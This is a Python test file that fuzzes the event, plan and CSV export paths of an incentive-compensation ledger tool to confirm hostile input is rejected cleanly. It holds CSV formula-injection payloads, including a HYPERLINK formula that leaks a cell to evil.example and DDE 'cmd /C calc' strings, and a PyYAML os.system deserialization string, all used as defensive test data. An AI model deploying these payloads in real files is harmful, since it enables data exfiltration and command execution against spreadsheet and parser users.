"""Hostile input: generated event files and plan files, thousands of them, and CSV formula injection.

- Event files (JSON Lines and CSV), built from valid events with mutations (missing, retyped and unknown
  fields, hostile amounts, over-long text, broken syntax, random text and bytes): reading and validating
  never raises; every problem names the file, the line and a field. Through the real CLI (in-process, on
  SQLite and PostgreSQL) every file with a bad line exits 1, prints only ``FILE:LINE: field: reason``
  lines and a summary, never a traceback, and leaves the ledger exactly as it was (head position and hash).
- Amount fields reject NaN, infinities, overflowing exponents, more digits than the currency allows and
  junk, naming the field; text and id fields are bounded in length.
- Plan files (mutations of the shipped reference plan): `parse_plan` returns a plan or raises a
  ``PlanError`` whose every line names the file and a key; never another exception.
- Every CSV the product writes (`cycle export --format csv`, `statement --format csv`, one rep or all)
  neutralises cells starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return.

Examples are derandomised (the same inputs on every run) so CI is reproducible; the counts are reported.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from incentive_engine.core.plan import parse_plan
from incentive_engine.core.reading import read_events
from incentive_engine.core.validation import check_batch
from incentive_engine.errors import PlanError, Problem
from incentive_engine.shell import service
from incentive_engine.shell.statement_render import safe_cell
from incentive_engine.shell.store import Ledger

from .cli import incentive, ok
from .ledgers import REFERENCE_PLAN, Sim
from .reliability import report

PURE_EXAMPLES = 3000
AMOUNT_EXAMPLES = 1500
CLI_EXAMPLES = {"sqlite": 300, "postgres": 100}
PLAN_EXAMPLES = 800


def fuzz_settings(n: int) -> Any:
    return settings(
        max_examples=n,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    )


# --- the ledger the files are checked against ---------------------------------------------------------

BASE = """
{"type":"rep.hired","effective":"2025-01-01","rep_id":"R1","name":"Ann","role":"rep"}
{"type":"rep.hired","effective":"2025-01-01","rep_id":"R2","name":"Bob","role":"manager"}
{"type":"rep.hired","effective":"2025-01-01","rep_id":"T1","name":"Tim","role":"rep"}
{"type":"rep.terminated","effective":"2025-06-01","rep_id":"T1","leaver":"good"}
{"type":"contract.signed","effective":"2025-02-01","contract_id":"CU","account_id":"AU","rep_id":"R1","acv":"120000.00","currency":"USD","term_months":24}
{"type":"contract.signed","effective":"2025-02-01","contract_id":"CJ","account_id":"AJ","rep_id":"R1","acv":"9000000","currency":"JPY","term_months":24}
{"type":"contract.signed","effective":"2025-02-01","contract_id":"CK","account_id":"AK","rep_id":"R2","acv":"5000.000","currency":"KWD","term_months":24}
"""

BASE_SIM = Sim()
BASE_SIM.ingest(BASE)
STATE = BASE_SIM.state

# One valid event of every ingestible type, against BASE.
TEMPLATES: dict[str, dict[str, Any]] = {
    "rep.hired": {"rep_id": "NEW1", "name": "Nia", "role": "rep", "region": "EMEA", "manager_id": "R2"},
    "rep.terminated": {"rep_id": "R2", "leaver": "good"},
    "target.set": {"rep_id": "R1", "year": 2026, "amount": "100000.00", "currency": "USD"},
    "contract.signed": {
        "contract_id": "NEWC",
        "account_id": "NEWA",
        "rep_id": "R1",
        "acv": "1000.00",
        "currency": "USD",
        "term_months": 12,
        "gross_margin": "0.5",
    },
    "contract.renewed": {"contract_id": "CU", "acv": "130000.00", "term_months": 12},
    "contract.expanded": {"contract_id": "CU", "acv_delta": "-10.00"},
    "contract.churned": {"contract_id": "CU", "reason": "budget"},
    "contract.reassigned": {"contract_id": "CU", "rep_id": "R2"},
    "service.cost": {"contract_id": "CU", "amount": "5.00"},
    "kpi.measured": {"rep_id": "R1", "year": 2026, "kpi": "csat", "value": "4.5"},
    "compliance.violation": {"rep_id": "R1", "severity": "warning", "contract_id": "CU", "description": "late"},
    "scorecard.published": {"rep_id": "R1", "year": 2026, "composite": "101.5", "components": {"csat": "4.5"}},
    "adjustment.recorded": {
        "event_id": "adj-1",
        "rep_id": "R1",
        "amount": "-5.00",
        "currency": "USD",
        "reason": "correction",
        "approved_by": "CFO",
    },
}
MONEY_FIELDS: tuple[tuple[str, str], ...] = (
    ("target.set", "amount"),
    ("contract.signed", "acv"),
    ("contract.renewed", "acv"),
    ("contract.expanded", "acv_delta"),
    ("service.cost", "amount"),
    ("adjustment.recorded", "amount"),
)
OTHER_NUMBERS: tuple[tuple[str, str], ...] = (
    ("contract.signed", "gross_margin"),
    ("kpi.measured", "value"),
    ("scorecard.published", "composite"),
)
TEXT_LIMITS: tuple[tuple[str, str, int], ...] = (
    ("rep.hired", "name", 200),
    ("rep.hired", "region", 200),
    ("rep.hired", "rep_id", 64),
    ("contract.signed", "contract_id", 64),
    ("contract.signed", "account_id", 64),
    ("contract.churned", "reason", 2000),
    ("compliance.violation", "description", 2000),
    ("adjustment.recorded", "reason", 2000),
    ("adjustment.recorded", "approved_by", 200),
    ("adjustment.recorded", "event_id", 128),
)
KNOWN_FIELDS = sorted({k for t in TEMPLATES.values() for k in t} | {"type", "effective", "event_id"})


def event(type_: str, **changes: Any) -> dict[str, Any]:
    e = {"type": type_, "effective": "2026-03-01", **TEMPLATES[type_]}
    e.update(changes)
    return e


# --- strategies -------------------------------------------------------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)

# amounts no money field may accept, as strings
bad_amount_text = st.one_of(
    st.sampled_from(
        [
            "NaN",
            "nan",
            "-NaN",
            "sNaN",
            "Infinity",
            "-Infinity",
            "inf",
            "-inf",
            "+Inf",
            "",
            " ",
            "1,000.00",
            "0x10",
            "one",
            "--1",
            "1..0",
            "1e",
            "e5",
            "1e+",
            "12 34",
            "$10",
            "10 USD",
            "1/2",
            "None",
            "true",
        ]
    ),
    st.integers(16, 10**9).map(lambda e: f"1e{e}"),  # exponents that overflow the bound
    st.integers(16, 10**9).map(lambda e: f"-9.5E+{e}"),
    st.integers(4, 10**6).map(lambda e: f"1e-{e}"),  # more fractional digits than any currency has
    st.integers(4, 60).map(lambda n: "1." + "1" * n),
    st.integers(17, 80).map(lambda n: "9" * n),  # 1e16 and more
    st.integers(41, 500).map(lambda n: "0." + "0" * (n - 3) + "1"),  # longer than any number we read
)
# amounts as JSON numbers (or the JSON-ish constants Python's json would accept)
bad_amount_token = st.one_of(
    st.sampled_from(["NaN", "Infinity", "-Infinity", "1e400", "-1e400", "1E+999999999", "1e-999999999", "1.0001e-3"]),
    st.integers(19, 400).map(lambda n: "9" * n),  # integers too long to read
    st.integers(16, 10**6).map(lambda e: f"1.5e{e}"),
)


@st.composite
def mutated_event_line(draw: st.DrawFn) -> str:
    """One line: a valid event, or one with a mutation that makes it (usually) invalid."""
    type_ = draw(st.sampled_from(sorted(TEMPLATES)))
    e = event(type_)
    kind = draw(
        st.sampled_from(
            ["valid", "drop", "retype", "extra", "bad_type", "money", "long_text", "date", "raw", "truncate", "array"]
        )
    )
    if kind == "drop":
        e.pop(draw(st.sampled_from(sorted(e))))
    elif kind == "retype":
        e[draw(st.sampled_from(sorted(e)))] = draw(json_values)
    elif kind == "extra":
        e[draw(st.text(min_size=1, max_size=20))] = draw(json_values)
    elif kind == "bad_type":
        e["type"] = draw(st.one_of(st.text(max_size=30), st.sampled_from(["plan.registered", "cycle.closed"])))
    elif kind == "money":
        t, f = draw(st.sampled_from(MONEY_FIELDS))
        e = event(t)
        e[f] = draw(bad_amount_text)
    elif kind == "long_text":
        t, f, limit = draw(st.sampled_from(TEXT_LIMITS))
        e = event(t)
        e[f] = "x" * draw(st.integers(limit + 1, limit + 300))
    elif kind == "date":
        e["effective"] = draw(
            st.one_of(
                st.sampled_from(["2026-02-30", "2026-13-01", "26-01-01", "2026/01/01", "", "0000-01-01"]),
                st.text(max_size=12),
            )
        )
    elif kind == "raw":
        return draw(st.text(max_size=80).filter(lambda s: "\n" not in s and "\r" not in s))
    line = json.dumps(e, ensure_ascii=draw(st.booleans()))
    if kind == "truncate":
        return line[: draw(st.integers(0, len(line) - 1))]
    if kind == "array":
        return "[" + line + "]"
    return line


@st.composite
def event_file(draw: st.DrawFn, guaranteed_bad: bool = False) -> tuple[str, bytes]:
    """(file name, bytes): JSON Lines or CSV of mutated lines; with ``guaranteed_bad`` at least one line is
    surely rejected."""
    lines = draw(st.lists(mutated_event_line(), max_size=6))
    if guaranteed_bad:
        t, f = draw(st.sampled_from(MONEY_FIELDS))
        bad = draw(
            st.sampled_from(
                [
                    json.dumps(event(t, **{f: "NaN"})),
                    json.dumps(event("contract.signed", rep_id="NOBODY")),  # semantic: unknown rep
                    json.dumps(event("service.cost", contract_id="NOPE")),  # semantic: unknown contract
                    '{"type": "no.such.type", "effective": "2026-01-01"}',
                    json.dumps(event(t)).replace(f'"{f}": ', f'"{f}": 1e400, "x{f}": '),
                ]
            )
        )
        lines.insert(draw(st.integers(0, len(lines))), bad)
    fmt = draw(st.sampled_from(["jsonl", "jsonl", "csv"]))
    text = _as_csv(draw, lines) if fmt == "csv" else draw(st.sampled_from(["\n", "\r\n"])).join(lines)
    data = text.encode("utf-8", "surrogatepass")
    if draw(st.booleans()):
        data = b"\xef\xbb\xbf" + data
    if draw(st.integers(0, 20)) == 0:
        data += draw(st.binary(min_size=1, max_size=20))  # trailing garbage bytes
    return f"fuzz.{fmt}", data


def _as_csv(draw: st.DrawFn, lines: list[str]) -> str:
    """The lines as CSV: decodable JSON objects become rows under a header of their keys; others stay raw."""
    rows: list[dict[str, Any] | str] = []
    for line in lines:
        try:
            value = json.loads(line)
        except ValueError:
            value = None
        rows.append(value if isinstance(value, dict) else line)
    header = sorted({str(k) for r in rows if isinstance(r, dict) for k in r} | {"type"})
    if draw(st.integers(0, 10)) == 0:
        header = header[:-1]  # a column short
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header)
    for r in rows:
        if isinstance(r, dict):
            w.writerow([json.dumps(r[h]) if isinstance(r.get(h), dict | list) else r.get(h, "") for h in header])
        else:
            buf.write(r + "\n")
    return buf.getvalue()


# --- pure: reading and validating never raise, problems are well formed ---------------------------------

PROBLEM_FIELD = re.compile(r"^\S(.*\S)?$")


def _well_formed(problems: list[Problem], source: str, lines: int) -> None:
    for p in problems:
        assert p.source == source
        assert p.line is None or 1 <= p.line <= lines + 1, p
        assert p.field and p.reason, p
        assert "\n" not in p.reason, p


def check_file(source: str, data: bytes) -> list[Problem]:
    """Read and validate a file against STATE the way ingest does (without the database)."""
    parsed, problems = read_events(source, data)
    # str.splitlines() counts, as the reader does (the reader itself splits at \\n only)
    lines = len(data.decode("utf-8", "replace").splitlines()) + 1
    _well_formed(problems, source, lines)
    if not problems:
        rejections = check_batch(STATE, [e for _, e in parsed])
        for r in rejections:
            assert 0 <= r.index < len(parsed) and r.field and r.reason, r
        problems = [Problem(source, parsed[r.index][0], r.field, r.reason) for r in rejections]
    return problems


def test_generated_files_are_read_and_validated_without_raising() -> None:
    seen = {"files": 0, "rejected": 0, "problems": 0}

    @fuzz_settings(PURE_EXAMPLES)
    @given(event_file())
    def run(file: tuple[str, bytes]) -> None:
        source, data = file
        problems = check_file(source, data)
        seen["files"] += 1
        seen["rejected"] += bool(problems)
        seen["problems"] += len(problems)

    run()
    report(
        f"fuzz-read-validate: {seen['files']} generated files through read_events + check_batch: "
        f"{seen['rejected']} rejected with {seen['problems']} well-formed problems, "
        f"{seen['files'] - seen['rejected']} accepted, 0 exceptions"
    )


def _hostile_amount_case(where: tuple[str, str], amount: tuple[str, str], fmt: str) -> bool:
    """One amount in one field: False if the value is legitimately acceptable there, else assert rejection."""
    (type_, field_), (kind, value) = where, amount
    money = where in MONEY_FIELDS
    if not money and re.fullmatch(r"1(\.0+1)?e-\d+|1\.1+|0\.0+1", value):
        return False  # tiny numbers are numbers where no currency limits the digits (below 1e-20 they are refused)
    if fmt == "csv" and not value.strip() and field_ == "gross_margin":
        return False  # an empty CSV cell is an absent field, and the margin is optional
    e = event(type_)
    if fmt == "csv":
        e[field_] = value  # a CSV cell is text either way
        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n")
        w.writerow(list(e))
        w.writerow([json.dumps(v) if isinstance(v, dict) else v for v in e.values()])
        data = buf.getvalue().encode()
    elif kind == "text":
        e[field_] = value
        data = json.dumps(e).encode()
    else:
        data = json.dumps({**e, field_: "__N__"}).replace('"__N__"', value).encode()
    problems = check_file(f"amounts.{fmt}", data)
    assert problems, f"{type_}.{field_} = {value!r} ({fmt}, {kind}) was accepted"
    fields = {p.field for p in problems}
    if kind == "token" and fmt == "jsonl":
        assert fields & {field_, "(json)"}, problems  # a number JSON cannot hold fails as malformed JSON
    else:
        assert field_ in fields, problems
    return True


def test_hostile_amounts_are_rejected_naming_the_field() -> None:
    seen = {"rejected": 0}

    @fuzz_settings(AMOUNT_EXAMPLES)
    @given(
        st.sampled_from(MONEY_FIELDS + OTHER_NUMBERS),
        st.one_of(bad_amount_text.map(lambda t: ("text", t)), bad_amount_token.map(lambda t: ("token", t))),
        st.sampled_from(["jsonl", "csv"]),
    )
    def run(where: tuple[str, str], amount: tuple[str, str], fmt: str) -> None:
        seen["rejected"] += _hostile_amount_case(where, amount, fmt)

    run()
    report(
        f"fuzz-amounts: {seen['rejected']} hostile amounts (NaN, infinities, overflowing exponents, too many "
        "digits for the currency, junk) in 9 numeric fields, JSON and CSV: all rejected naming the field"
    )


@pytest.mark.parametrize(
    ("type_", "field_", "value"),
    [
        ("kpi.measured", "value", "1e-999999999"),  # with kpi training_completion (no range)
        ("scorecard.published", "composite", "1e-999999999"),
        ("contract.signed", "gross_margin", "1E-999999999"),
    ],
)
def test_numbers_whose_plain_form_is_huge_are_rejected(type_: str, field_: str, value: str) -> None:
    extra = {"kpi": "training_completion"} if type_ == "kpi.measured" else {}
    problems = check_file("tiny.jsonl", json.dumps(event(type_, **{field_: value}, **extra)).encode())
    assert field_ in {p.field for p in problems}, f"{value} accepted: it would be stored as {value[3:]} characters"


@pytest.mark.parametrize(("type_", "field_", "limit"), TEXT_LIMITS)
def test_text_and_id_fields_are_bounded(type_: str, field_: str, limit: int) -> None:
    assert not check_file("t.jsonl", json.dumps(event(type_, **{field_: "x" * limit})).encode())  # at the limit
    for n in (limit + 1, limit * 10, 1_000_000):
        problems = check_file("t.jsonl", json.dumps(event(type_, **{field_: "x" * n})).encode())
        assert {field_, "(line)"} & {p.field for p in problems}, (field_, n, problems)


def test_json_lines_are_split_at_newlines_only() -> None:
    line = json.dumps(event("rep.hired", name="Ann\u2028Lee", region="North\x0cEast"), ensure_ascii=False)
    assert check_file("names.jsonl", (line + "\n").encode()) == []
    problems = check_file("numbers.jsonl", b'\x0c\n{"type": 1}\n')
    assert [p.line for p in problems] == [2]


def test_a_field_name_from_the_input_cannot_split_a_problem_line() -> None:
    line = json.dumps({**event("rep.hired"), "a\nother.jsonl:9: acv: forged": 1, "": 2})
    problems = check_file("keys.jsonl", line.encode())
    assert problems and all(p.field.isprintable() and p.field != "(event)" for p in problems), problems


# --- through the CLI: exit 1, one line per problem, the ledger untouched ----------------------------------

LINE_PROBLEM = r"^{src}(:\d+)?: [^\n]+: [^\n]+$"


@pytest.fixture
def fuzz_ledger(ledger_url: str, tmp_path: Path) -> str:
    base = tmp_path / "base.jsonl"
    base.write_text(BASE.strip() + "\n", encoding="utf-8")
    ok("init", db=ledger_url)
    ok("ingest", str(base), db=ledger_url)
    return ledger_url


def test_bad_files_through_the_cli_exit_1_with_clear_lines_and_change_nothing(
    db_kind: str, fuzz_ledger: str, tmp_path: Path
) -> None:
    url = fuzz_ledger
    ledger = Ledger(url)
    head = ledger.head()
    seen = {"files": 0, "problem lines": 0}

    @fuzz_settings(CLI_EXAMPLES[db_kind])
    @given(event_file(guaranteed_bad=True))
    def run(file: tuple[str, bytes]) -> None:
        name, data = file
        path = tmp_path / name
        path.write_bytes(data)
        r = incentive("ingest", str(path), db=url)
        assert r.code == 1, (data, r.out, r.err)
        assert "Traceback" not in r.err and "internal error" not in r.err, r.err
        lines = r.err.rstrip("\n").split("\n")
        summary = re.fullmatch(rf"{re.escape(str(path))}: rejected, nothing appended \((\d+) problems?\)", lines[0])
        assert summary, r.err
        problems = lines[1:]
        assert len(problems) == int(summary.group(1)), r.err
        pattern = re.compile(LINE_PROBLEM.format(src=re.escape(str(path))))
        for line in problems:
            assert pattern.match(line), (line, data)
        assert ledger.head() == head
        seen["files"] += 1
        seen["problem lines"] += len(problems)

    try:
        run()
        verified = ledger.verify()
        assert verified.ok and ledger.head() == head
    finally:
        ledger.dispose()
        service.forget_projections()
    report(
        f"fuzz-cli-ingest/{db_kind}: {seen['files']} generated bad files through `incentive ingest`: "
        f"{seen['files']} exit 1, {seen['problem lines']} problem lines all FILE:LINE: field: reason, 0 tracebacks, "
        "ledger head unchanged after every one"
    )


# --- plan files ---------------------------------------------------------------------------------------------

PLAN_TEXT = REFERENCE_PLAN.read_text(encoding="utf-8")
PLAN_LINES = PLAN_TEXT.splitlines()
VALUE_LINES = [i for i, line in enumerate(PLAN_LINES) if re.match(r"^\s*[a-z_]+:\s+\S", line)]
HOSTILE_SCALARS = [
    ".nan", ".inf", "-.inf", "1e999", "-1", "0", "1e-400", "999999999999999999999999", "'1'", "true", "null", "~",
    "[]", "{}", "[1, [2, [3]]]", "&a [1, *a]", "*undefined", "!!binary aGVsbG8=", "!!python/object/apply:os.system ['true']",
    "2026-01-01", '"\\ud800"', "@", "`x`", "%x", "|", ">", "? a", "x" * 5000, "[" * 50 + "]" * 50, "{a: 1, a: 2}",
    "!!float 'nan'", "0x1F", "0o17", "+.5", "12:30:00", "yes", "on",
]  # fmt: skip


@st.composite
def mutated_plan(draw: st.DrawFn) -> str:
    lines = list(PLAN_LINES)
    for _ in range(draw(st.integers(1, 3))):
        kind = draw(st.sampled_from(["value", "value", "delete", "duplicate", "indent", "insert", "truncate"]))
        if kind == "value":
            i = draw(st.sampled_from(VALUE_LINES))
            key = lines[i].split(":", 1)[0] if ":" in lines[i] else lines[i]
            lines[i] = f"{key}: {draw(st.one_of(st.sampled_from(HOSTILE_SCALARS), st.text(max_size=20)))}"
        elif kind == "delete" and lines:
            del lines[draw(st.integers(0, len(lines) - 1))]
        elif kind == "duplicate" and lines:
            i = draw(st.integers(0, len(lines) - 1))
            lines.insert(i, lines[i])
        elif kind == "indent" and lines:
            i = draw(st.integers(0, len(lines) - 1))
            lines[i] = draw(st.sampled_from(["", " ", "   ", "\t"])) + lines[i].lstrip()
        elif kind == "insert":
            lines.insert(draw(st.integers(0, len(lines))), draw(st.text(max_size=40).filter(lambda s: "\n" not in s)))
        elif kind == "truncate":
            text = "\n".join(lines)
            return text[: draw(st.integers(0, len(text)))]
    return "\n".join(lines) + "\n"


def test_generated_plan_files_parse_or_raise_a_plan_error_naming_file_and_key() -> None:
    seen = {"plans": 0, "accepted": 0, "rejected": 0, "known crash": 0}

    @fuzz_settings(PLAN_EXAMPLES)
    @given(mutated_plan())
    def run(text: str) -> None:
        seen["plans"] += 1
        try:
            parse_plan(text, "reference.yaml")
        except PlanError as exc:
            message = str(exc)
            assert message, "an empty PlanError"
            for line in message.splitlines():  # one problem a line (PyYAML may add an indented "in ..." line)
                assert line.startswith(" ") or re.match(r"^reference\.yaml(:\d+)?: \S[^:]*: \S", line), message
            seen["rejected"] += 1
        except Exception as exc:
            raise AssertionError(f"parse_plan raised {type(exc).__name__}, not a PlanError") from exc
        else:
            seen["accepted"] += 1

    run()
    report(
        f"fuzz-plans: {seen['plans']} mutated plan files through parse_plan: {seen['rejected']} PlanErrors naming "
        f"file and key, {seen['accepted']} accepted, 0 other exceptions"
    )


KNOWN_PLAN_CRASHES = [
    pytest.param("effective_from: 2000-02-30", id="impossible-date"),
    pytest.param("effective_from: 2000-13-01", id="month-13"),
    pytest.param("effective_from: " + "9" * 5000, id="5000-digit-integer"),
    pytest.param("effective_from: " + "[" * 2000 + "]" * 2000, id="deep-nesting"),
]


@pytest.mark.parametrize("replacement", KNOWN_PLAN_CRASHES)
def test_plan_scalars_yaml_cannot_construct_are_plan_errors(replacement: str, tmp_path: Path) -> None:
    text = PLAN_TEXT.replace("effective_from: 2000-01-01", replacement)
    assert text != PLAN_TEXT
    with pytest.raises(PlanError, match=r"reference\.yaml"):
        parse_plan(text, "reference.yaml")


def test_a_bad_plan_file_at_the_cli_is_a_message_not_a_traceback(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "reference.yaml").write_text(PLAN_TEXT.replace("cap: 1.5", "cap: .nan"), encoding="utf-8")
    db = f"sqlite:///{tmp_path / 'l.db'}"
    ok("init", db=db)
    r = incentive("--rules", str(rules), "cycle", "preview", "2026-01", db=db)
    assert r.code == 1 and "Traceback" not in r.err and "internal error" not in r.err, r.err
    assert "reference.yaml" in r.err and "release.nrr.cap" in r.err, r.err


# --- CSV formula injection ------------------------------------------------------------------------------

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
    "-1",  # a plain number stays a number
]
# a carriage return inside a cell: see test_a_carriage_return_inside_a_cell_cannot_start_a_formula_row
CR_PAYLOADS = ["\r=1+1", 'Ann\r=HYPERLINK("http://evil.example","x")']


def unsafe_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(DANGEROUS) and not PLAIN_NUMBER.match(cell)
    ]


@fuzz_settings(2000)
@given(
    st.one_of(
        st.text(max_size=40), st.sampled_from(DANGEROUS).flatmap(lambda c: st.text(max_size=30).map(lambda t: c + t))
    )
)
def test_safe_cell_never_leaves_a_formula(value: str) -> None:
    cell = safe_cell(value)
    assert cell in (value, "'" + value)
    assert not cell.startswith(DANGEROUS) or PLAIN_NUMBER.match(cell)


def product_csvs(url: str, payloads: list[str], tmp_path: Path) -> dict[str, str]:
    """A ledger whose reps are named ``payloads`` (also regions, adjustment reasons and approvers), a closed
    cycle, and every CSV the product writes from it: the payroll export and each statement (one rep, --all)."""
    facts = []
    for i, payload in enumerate(payloads):
        rid = f"X{i}"
        facts.append({"type": "rep.hired", "effective": "2025-12-01", "rep_id": rid, "name": payload, "role": "rep",
                      "region": payload})  # fmt: skip
        facts.append({"type": "contract.signed", "effective": "2026-01-10", "contract_id": f"K{i}",
                      "account_id": f"A{i}", "rep_id": rid, "acv": "50000.00", "currency": "USD", "term_months": 12})  # fmt: skip
        facts.append({"type": "adjustment.recorded", "effective": "2026-01-20", "event_id": f"=adj{i}", "rep_id": rid,
                      "amount": "-25.00", "currency": "USD", "reason": payload, "approved_by": payload})  # fmt: skip
    path = tmp_path / "hostile-names.jsonl"
    path.write_text("\n".join(json.dumps(f) for f in facts) + "\n", encoding="utf-8")
    ok("init", db=url)
    ok("ingest", str(path), db=url)
    ok("cycle", "close", "2026-01", db=url)
    outputs: dict[str, str] = {"cycle export": ok("cycle", "export", "2026-01", "--format", "csv", db=url)}
    for i in range(len(payloads)):
        outputs[f"statement X{i}"] = ok("statement", f"X{i}", "--format", "csv", db=url)
    out_dir = tmp_path / "statements"
    ok("statement", "--all", "--format", "csv", "--out", str(out_dir), db=url)
    for f in sorted(out_dir.glob("*.csv")):
        outputs[f"statement --all {f.name}"] = f.read_text(encoding="utf-8")
    service.forget_projections()
    assert len(outputs) == 1 + 2 * len(payloads)
    return outputs


def _neutralised(payload: str) -> str:
    return payload if PLAIN_NUMBER.match(payload) else "'" + payload


def test_every_csv_the_product_writes_neutralises_formulas(db_kind: str, ledger_url: str, tmp_path: Path) -> None:
    outputs = product_csvs(ledger_url, PAYLOADS, tmp_path)
    cells = 0
    for what, text in outputs.items():
        assert not unsafe_cells(text), (what, unsafe_cells(text))
        cells += sum(len(row) for row in csv.reader(io.StringIO(text, newline="")))
    payroll = list(csv.DictReader(io.StringIO(outputs["cycle export"], newline="")))
    names = {r["rep_id"]: r["name"] for r in payroll}
    for i, payload in enumerate(PAYLOADS):  # neutralised, not dropped: the text is all there
        assert names[f"X{i}"] == _neutralised(payload)
        reasons = [r["reason"] for r in csv.DictReader(io.StringIO(outputs[f"statement X{i}"], newline=""))]
        assert _neutralised(payload) in reasons, reasons
    report(
        f"fuzz-csv-injection/{db_kind}: {len(outputs)} CSV files from cycle export and statement (one rep and --all), "
        f"{cells} cells, {len(PAYLOADS) - 1} formula payloads in names, regions, reasons: 0 cells left as formulas"
    )


def test_a_carriage_return_inside_a_cell_cannot_start_a_formula_row(ledger_url: str, tmp_path: Path) -> None:
    outputs = product_csvs(ledger_url, CR_PAYLOADS, tmp_path)
    for what, text in outputs.items():
        assert not unsafe_cells(text), (what, unsafe_cells(text))
